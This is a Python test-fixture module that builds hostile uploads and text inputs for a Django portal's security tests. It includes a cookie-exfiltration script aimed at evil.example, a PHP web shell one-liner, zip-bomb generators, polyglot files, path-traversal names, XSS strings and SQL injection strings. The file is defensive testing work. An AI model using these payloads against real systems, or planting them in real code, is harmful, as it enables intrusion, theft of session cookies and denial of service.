"""Hostile-input corpora, generated in code (nothing binary is committed).

Used by tests/security/test_hostile_*.py and test_xss_browser.py:

- `files()`: uploads (mismatched types, double extensions, executables, zip
  bombs, polyglots), each with the outcome the portal owes it: refused with a
  `portal.services.documents.check_upload` error code, or accepted (a real
  file of an accepted type) with the name it must be shown under;
- `hostile_names()`: path-traversal and odd file names, sent raw in the
  multipart header (Django's test client would clean them before sending);
- `sparse_upload()`: a file just over a size limit that is a hole on disk,
  not bytes in memory;
- `TEXTS`: strings that are valid text (XSS, template injection, SQL-ish,
  odd but valid Unicode, control characters): stored verbatim, rendered escaped;
- `BAD_TEXTS`, `RAW_FORM_BODIES`, `RAW_JSON_BODIES`: what a text field or a
  body parser must refuse, or decode without harm (NUL, too long, lone
  surrogates, overlong UTF-8);
- `multipart()`: a multipart/form-data body built byte by byte.
"""

from __future__ import annotations

import functools
import io
import struct
import uuid
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

# --- files: the bytes -----------------------------------------------------------------------------

PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\n"
    b"endobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
HTML = b"<!DOCTYPE html><html><body><script>window.__xss=1</script></body></html>"
JS = b"window.__xss = 1;\ndocument.location = 'https://evil.example/?c=' + document.cookie;\n"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1">'
       b"<script>window.__xss=1</script></svg>")
PHP = b"<?php system($_GET['cmd']); ?>\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 47 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
GIF_SCRIPT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;window.__xss=1;"
#: A PDF that runs JavaScript when opened (/OpenAction). Nothing in the portal
#: claims to look inside PDFs: it is accepted like any PDF and only ever served
#: as a download (Content-Disposition: attachment, nosniff, CSP sandbox).
PDF_WITH_JS = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('xss'\\);) >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


def _zip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


ZIP = _zip([("readme.txt", b"just a zip")])
#: Valid as a JPEG (read from the start) and as a ZIP/JAR (read from the end): a "GIFAR".
JPEG_ZIP = JPEG + _zip([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("Evil.class", b"\xca\xfe\xba\xbe")])
#: A PDF first, HTML after: a PDF reader and libmagic see a PDF; a browser sniffing
#: the start sees no markup. Accepted as a PDF, served only as a download.
PDF_HTML = PDF + b"<html><body><script>window.__xss=1</script></body></html>\n"
#: HTML first, a PDF header after: a browser sniffing it renders HTML.
HTML_PDF = b"<html><body><script>window.__xss=1</script></body></html>\n" + PDF


def deflate_zeros(size: int, *, chunk: int = 1 << 20) -> tuple[bytes, int]:
    """A raw deflate stream that inflates to `size` zero bytes, and its CRC-32,
    made without ever holding `size` bytes: independent full-flush blocks of
    one chunk of zeros, repeated, then an empty final block."""
    assert size % chunk == 0
    zeros = bytes(chunk)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(size // chunk):
        crc = zlib.crc32(zeros, crc)
    return block * (size // chunk) + final, crc


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A ZIP archive from already-compressed entries: (name, data, method, crc, uncompressed size)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, method, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size,
                              len(encoded), 0) + encoded + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data),
                                  size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    directory = central.getvalue()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory),
                          out.tell() - len(directory), 0))
    return out.getvalue()


BOMB_SIZE = 1 << 30  # each bomb member inflates to 1 GiB


@functools.cache
def zip_bomb() -> bytes:
    """About 1 MB that inflates to 2 GiB (two members of 1 GiB of zeros)."""
    data, crc = deflate_zeros(BOMB_SIZE)
    return _raw_zip([("zeros-1.bin", data, zipfile.ZIP_DEFLATED, crc, BOMB_SIZE),
                     ("zeros-2.bin", data, zipfile.ZIP_DEFLATED, crc, BOMB_SIZE)])


@functools.cache
def nested_zip_bomb() -> bytes:
    """A ZIP of ZIPs (42.zip style): 16 copies of the 2 GiB bomb, 32 GiB in all
    once every level is unpacked; the inner bombs compress well again."""
    inner = zip_bomb()
    return _zip([(f"layer-{i:02d}.zip", inner) for i in range(16)])


def _ooxml(extra: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A Word (.docx) package shape: libmagic calls it a Word document."""
    parts = [("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'), ("_rels/.rels", b"<Relationships/>")]
    entries = []
    for name, data in parts:
        entries.append((name, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data)))
    return _raw_zip(entries + extra)


@functools.cache
def docx_bomb() -> bytes:
    """A .docx whose document part inflates to 1 GiB: Word files are ZIP packages."""
    data, crc = deflate_zeros(BOMB_SIZE)
    return _ooxml([("word/document.xml", data, zipfile.ZIP_DEFLATED, crc, BOMB_SIZE)])


@functools.cache
def docx_nested_bomb() -> bytes:
    """A .docx that carries a zip bomb as an "embedded object"."""
    inner = zip_bomb()
    return _ooxml([("word/document.xml", b"<w:document/>", zipfile.ZIP_STORED, zlib.crc32(b"<w:document/>"), 13),
                   ("word/embeddings/oleObject1.bin", inner, zipfile.ZIP_STORED, zlib.crc32(inner), len(inner))])


@functools.cache
def docx() -> bytes:
    """A small, ordinary .docx package (accepted)."""
    xml = b'<?xml version="1.0"?><w:document><w:body><w:p>' + "证据说明".encode() * 50 + b"</w:p></w:body></w:document>"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(xml) + compressor.flush()
    return _ooxml([("word/document.xml", data, zipfile.ZIP_DEFLATED, zlib.crc32(xml), len(xml))])


# --- files: the corpus ------------------------------------------------------------------------------

@dataclass(frozen=True)
class HostileFile:
    id: str
    name: str
    content: bytes
    refused: str | None  # the check_upload error code; None: an acceptable file
    shown_as: str = ""   # accepted files: the name the portal shows


def files() -> list[HostileFile]:
    return [
        # mismatched types
        HostileFile("png-named-pdf", "screenshot.pdf", PNG, "type_mismatch"),
        HostileFile("pdf-named-png", "scan.png", PDF, "type_mismatch"),
        HostileFile("html-named-pdf", "invoice.pdf", HTML, "bad_type"),
        HostileFile("js-named-pdf", "invoice.pdf", JS, "type_mismatch"),  # libmagic: text/plain
        HostileFile("exe-named-pdf", "invoice.pdf", EXE, "bad_type"),
        HostileFile("elf-named-pdf", "invoice.pdf", ELF, "bad_type"),
        HostileFile("svg-script", "logo.svg", SVG, "bad_type"),
        HostileFile("svg-named-png", "logo.png", SVG, "bad_type"),
        HostileFile("gif-script", "pixel.gif", GIF_SCRIPT, "bad_type"),
        HostileFile("html-named-txt", "notes.txt", HTML, "bad_type"),
        HostileFile("empty", "empty.pdf", b"", "empty"),
        # double extensions
        HostileFile("pdf-dot-exe", "evidence.pdf.exe", PDF, "type_mismatch"),
        HostileFile("exe-dot-pdf", "evidence.exe.pdf", EXE, "bad_type"),
        HostileFile("php-dot-pdf", "evidence.php.pdf", PHP, "bad_type"),
        HostileFile("pdf-dot-php-dot-pdf", "evidence.php.pdf", PDF, None, "evidence.php.pdf"),
        # archives and zip bombs (the portal does not take archives; Word and Excel files are ZIP packages)
        HostileFile("zip", "archive.zip", ZIP, "bad_type"),
        HostileFile("zip-bomb", "archive.zip", zip_bomb(), "bad_type"),
        HostileFile("zip-bomb-named-pdf", "evidence.pdf", zip_bomb(), "bad_type"),
        HostileFile("nested-zip-bomb", "42.zip", nested_zip_bomb(), "bad_type"),
        HostileFile("docx-bomb", "contract.docx", docx_bomb(), "archive_bomb"),
        HostileFile("docx-nested-bomb", "contract.docx", docx_nested_bomb(), "archive_bomb"),
        HostileFile("docx", "contract.docx", docx(), None, "contract.docx"),
        # polyglots
        HostileFile("html-then-pdf", "report.pdf", HTML_PDF, "bad_type"),
        HostileFile("pdf-then-html", "report.pdf", PDF_HTML, None, "report.pdf"),
        HostileFile("pdf-then-html-named-html", "report.html", PDF_HTML, "type_mismatch"),
        HostileFile("jpeg-zip-gifar", "photo.jpg", JPEG_ZIP, None, "photo.jpg"),
        HostileFile("jpeg-zip-named-jar", "photo.jar", JPEG_ZIP, "type_mismatch"),
        HostileFile("pdf-with-javascript", "contract.pdf", PDF_WITH_JS, None, "contract.pdf"),
    ]


def refused_files() -> list[HostileFile]:
    return [f for f in files() if f.refused]


def accepted_files() -> list[HostileFile]:
    return [f for f in files() if not f.refused]


@dataclass(frozen=True)
class HostileName:
    id: str
    raw: str          # as sent in the multipart header
    shown_as: str     # accepted: the display name; "" when the upload must be refused
    refused: str = ""  # "type_mismatch", or "missing" when Django drops the file part


def hostile_names() -> list[HostileName]:
    """File names sent with PDF content."""
    return [
        HostileName("traversal", "../../etc/passwd.pdf", "passwd.pdf"),
        HostileName("traversal-deep", "../../../../../../../../tmp/evil.pdf", "evil.pdf"),
        HostileName("windows-traversal", "..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        HostileName("absolute", "/etc/passwd.pdf", "passwd.pdf"),
        HostileName("windows-absolute", "C:\\Windows\\System32\\evil.pdf", "evil.pdf"),
        HostileName("unc", "\\\\evil.example\\share\\evil.pdf", "evil.pdf"),
        HostileName("nul-then-exe", "evidence.pdf\x00.exe", "", "type_mismatch"),
        HostileName("long", "证" * 300 + ".pdf", "证" * 196 + ".pdf"),
        HostileName("rtl-override-exe", "evidence\u202efdp.exe", "", "type_mismatch"),
        HostileName("rtl-override-pdf", "invoice\u202egnp.pdf", "invoicegnp.pdf"),
        HostileName("control-chars", "a\x01\x07\x1b[31mb.pdf", "a[31mb.pdf"),
        HostileName("only-dots", "...", "", "type_mismatch"),
        HostileName("dot-dot", "..", "", "missing"),
        HostileName("xss", '"><img src=x onerror=window.__xss=1>.pdf', '"><img src=x onerror=window.__xss=1>.pdf'),
        HostileName("sql", "'; DROP TABLE portal_casedocument;--.pdf", "'; DROP TABLE portal_casedocument;--.pdf"),
    ]


def sparse_upload(directory: Path, name: str, size: int, head: bytes = PDF):
    """An open file of `size` bytes that begins with `head`: the rest is a hole
    (truncate), so a file of any size costs neither memory nor disk."""
    path = Path(directory) / name
    with path.open("wb") as fh:
        fh.write(head)
        fh.truncate(size)
    return path.open("rb")


# --- multipart bodies ---------------------------------------------------------------------------------

def multipart(fields: dict[str, str | bytes] | None = None,
              files_: list[tuple[str, str | bytes, bytes, str]] | None = None) -> tuple[bytes, str]:
    """(body, content type) of a multipart/form-data request. File names and
    values go out exactly as given (str as UTF-8, bytes raw): nothing is cleaned."""
    boundary = "----hostile" + uuid.uuid4().hex
    out = io.BytesIO()

    def raw(value: str | bytes) -> bytes:
        return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")

    for name, value in (fields or {}).items():
        out.write(f"--{boundary}\r\n".encode() + b'Content-Disposition: form-data; name="' + raw(name)
                  + b'"\r\n\r\n' + raw(value) + b"\r\n")
    for field, filename, content, content_type in files_ or []:
        out.write(f"--{boundary}\r\n".encode() + b'Content-Disposition: form-data; name="' + raw(field)
                  + b'"; filename="' + raw(filename) + b'"\r\n' + f"Content-Type: {content_type}\r\n\r\n".encode()
                  + content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


# --- text ------------------------------------------------------------------------------------------------

#: Rendered back anywhere, none of these may run: the browser tests look for window.__xss.
XSS = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "</textarea></title></style><script>window.__xss=1</script>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<a href=\"javascript:window.__xss=1\">click</a>",
    "javascript:window.__xss=1",
    "<img src=x onerror=&#x77;indow.__xss=1>",
    "<!--<img src=\"--><img src=x onerror=window.__xss=1>\">",
]
TEMPLATE_INJECTION = ["{{7*7}}", "{% debug %}{% now 'Y' %}", "${7*7}", "#{7*7}", "{{ request.user.password }}"]
SQLISH = [
    "'; DROP TABLE portal_case;--",
    "' OR 1=1--",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "%' UNION SELECT password FROM portal_user--",
    "\\'; --",
]
#: Valid Unicode that is odd: bidirectional overrides, zero-width, astral, combining marks.
ODD_UNICODE = ["\u202egnp.exe", "zero\u200bwidth\ufeff", "𝒳𝒮𝒮 🙂 𠀀", "Z\u0364\u0351\u0313a\u0308\u0347"]
#: Control characters other than NUL are valid text (stored verbatim; no 500 anywhere).
CONTROL = ["bell\x07 escape\x1b[31mred\x1b[0m tab\t vt\x0b ff\x0c del\x7f"]

#: Valid text: stored exactly, rendered escaped.
TEXTS = XSS + TEMPLATE_INJECTION + SQLISH + ODD_UNICODE + CONTROL


def combined(width: int | None = None) -> str:
    """Every valid-text payload in one string (one line each), for one-shot forms;
    cut to `width` characters when a field is shorter."""
    text = "\n".join(TEXTS)
    return text[:width] if width else text


def short_payloads(limit: int) -> list[str]:
    """The valid-text payloads that fit a field of `limit` characters."""
    return [t for t in TEXTS if len(t) <= limit]


#: A text field must refuse these with a clear error (and store nothing).
NUL = "before\x00after"


def too_long(limit: int) -> str:
    return "长" * (limit + 1)


MEGABYTE_TEXT = "长" * (1 << 20)  # 1 Mi characters (3 MiB in UTF-8): under the 5 MiB body limit

#: application/x-www-form-urlencoded values that are not valid UTF-8: Django
#: decodes them with U+FFFD and nothing more (an overlong "<" must not become "<").
RAW_FORM_VALUES = {
    "lone-surrogate": (b"%ED%A0%80", "\ufffd\ufffd\ufffd"),
    "overlong-lt": (b"%C0%BCscript%C0%BE", "\ufffd\ufffdscript\ufffd\ufffd"),
    "invalid-byte": (b"%FF%FE", "\ufffd\ufffd"),
}

#: Raw JSON bodies: what the API must answer with a problem (never 500).
RAW_JSON_BODIES = {
    "overlong-utf8": b'{"complaints": [{"facts": "\xc0\xbcscript\xc0\xbe"}]}',
    "invalid-utf8": b'{"complaints": [{"facts": "\xff\xfe"}]}',
    "truncated": b'{"complaints": [',
    "not-an-object": b'"just a string"',
    "nan": b'{"complaints": NaN}',
    "deep-nesting": b"[" * 10000 + b"]" * 10000,
}

#: JSON escapes that decode to strings no text may hold.
LONE_SURROGATE_JSON = "\\ud800"
NUL_JSON = "\\u0000"


def has_cjk(text: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in text)


# --- checking what the portal did with them ---------------------------------------------------------

def private_files() -> set[str]:
    """Every file under the private storage and under the upload temp dir
    (nothing may be left there either). The storage of the models' file fields
    is read from the fields: a callable storage is resolved once, when the
    models load, so it may be another folder than the one tests/conftest.py
    gives each test."""
    from django.conf import settings

    from notary.models import NotaryItem
    from portal.models import CaseDocument

    roots = {settings.STORAGES["private"]["OPTIONS"]["location"], settings.FILE_UPLOAD_TEMP_DIR}
    roots |= {model._meta.get_field("file").storage.location for model in (CaseDocument, NotaryItem)}
    found = set()
    for root in sorted(roots):
        base = Path(root)
        if base.exists():
            found |= {str(p) for p in base.rglob("*") if p.is_file()}
    return found


class NothingSaved:
    """Asserts on exit that the given models have as many rows as on entry and
    that no file was added to the private storage."""

    def __init__(self, *models, label: str = ""):
        self.models, self.label = models, label

    def counts(self) -> dict[str, int]:
        return {m._meta.label: m.objects.count() for m in self.models}

    def __enter__(self):
        self.before, self.files = self.counts(), private_files()
        return self

    def __exit__(self, exc_type, *exc):
        if exc_type is None:
            assert self.counts() == self.before, f"{self.label}: rows were saved"
            assert private_files() == self.files, f"{self.label}: files were left: {private_files() - self.files}"
        return False


def error_texts(response) -> list[str]:
    """The error messages a response shows: field and form errors and flash
    messages of an HTML page (text, unescaped), `errors`/`detail` of a
    problem+json, `error.message` of a JSON answer."""
    import html
    import json
    import re

    content_type = response.get("Content-Type", "")
    body = response.content.decode("utf-8", "replace")
    if "json" in content_type:
        data = json.loads(body)
        texts = []
        if isinstance(data.get("error"), dict):
            texts.append(data["error"].get("message", ""))
        if "detail" in data:
            texts.append(str(data["detail"]))
        texts += [e["detail"] for e in data.get("errors") or [] if isinstance(e, dict)]
        texts += [str(e) for e in data.get("errors") or [] if isinstance(e, str)]
        return texts
    blocks = re.findall(r'<ul class="(?:errorlist[^"]*|messages)"[^>]*>(.*?)</ul>', body, flags=re.S)
    items = [item for block in blocks for item in re.findall(r"<li[^>]*>(.*?)</li>", block, flags=re.S)]
    return [html.unescape(re.sub(r"<[^>]+>", "", item)).strip() for item in items]


def translated(message: str, lang: str, **params) -> str:
    """A msgid in `lang`, with its parameters."""
    from django.utils import translation

    with translation.override(lang):
        text = translation.gettext(message)
    return text % params if params else text


def is_translated(message: str) -> bool:
    """Whether the Chinese catalogue has this msgid (new messages wait for the translator)."""
    return translated(message, "zh-hans") != message


def assert_escaped(page: str, payload: str) -> None:
    """A payload with markup may appear in a page only escaped."""
    if "<" in payload:
        assert payload not in page, f"unescaped in the page: {payload!r}"


# --- probing forms -------------------------------------------------------------------------------------

LANGUAGES = ("zh-hans", "en")


def validator_message(validator, value, lang: str) -> str:
    """What a Django validator says about `value`, in `lang`."""
    from django.core.exceptions import ValidationError
    from django.utils import translation

    with translation.override(lang):
        try:
            validator(value)
        except ValidationError as exc:
            return exc.messages[0]
    raise AssertionError(f"{validator} accepts {value!r}")


def nul_message(lang: str) -> str:
    from django.core.validators import ProhibitNullCharactersValidator

    return validator_message(ProhibitNullCharactersValidator(), NUL, lang)


def max_length_message(limit: int, value: str, lang: str) -> str:
    from django.core.validators import MaxLengthValidator

    return validator_message(MaxLengthValidator(limit), value, lang)


def lang_headers(lang: str) -> dict:
    """Chinese is the default: no header. English: asked for by the browser."""
    return {} if lang == "zh-hans" else {"Accept-Language": lang}


class Checks:
    """Collects failed checks so that one test reports every broken input at once."""

    def __init__(self, name: str):
        self.name, self.failures, self.count = name, [], 0

    def check(self, ok: bool, message: str) -> bool:
        self.count += 1
        if not ok:
            self.failures.append(message)
        return ok

    def done(self) -> None:
        print(f"{self.name}: {self.count} checks")
        assert not self.failures, f"{len(self.failures)} of {self.count} checks failed:\n" + "\n".join(self.failures)


def refused(checks: Checks, post, data: dict, expected, *models, label: str, statuses=(200,)) -> None:
    """`post(data, lang)` in both languages must answer with `expected(lang)`
    among its errors (no 500) and save nothing."""
    for lang in LANGUAGES:
        where = f"{label} · {lang}"
        snapshot = NothingSaved(*models, label=where)
        snapshot.before, snapshot.files = snapshot.counts(), private_files()
        response = post(data, lang)
        ok_rows = snapshot.counts() == snapshot.before and private_files() == snapshot.files
        checks.check(ok_rows, f"{where}: something was saved")
        checks.check(response.status_code in statuses, f"{where}: status {response.status_code}")
        texts = error_texts(response)
        if expected is None:  # any error, in the language
            checks.check(bool(texts), f"{where}: no error shown")
            if lang == "zh-hans":
                checks.check(any(has_cjk(t) for t in texts), f"{where}: not Chinese: {texts}")
            continue
        message = expected(lang)
        checks.check(any(message in t for t in texts), f"{where}: {message!r} not in {texts}")
        if lang == "zh-hans" and message != expected("en"):
            checks.check(has_cjk(message), f"{where}: not Chinese: {message!r}")


def stored_and_escaped(checks: Checks, value, payload: str, page: str, *, label: str) -> None:
    """The payload is stored exactly and, on `page`, shown only escaped."""
    checks.check(value == payload, f"{label}: stored {value!r}, sent {payload!r}")
    for line in payload.splitlines():
        if "<" in line:
            checks.check(line not in page, f"{label}: unescaped on the page: {line!r}")
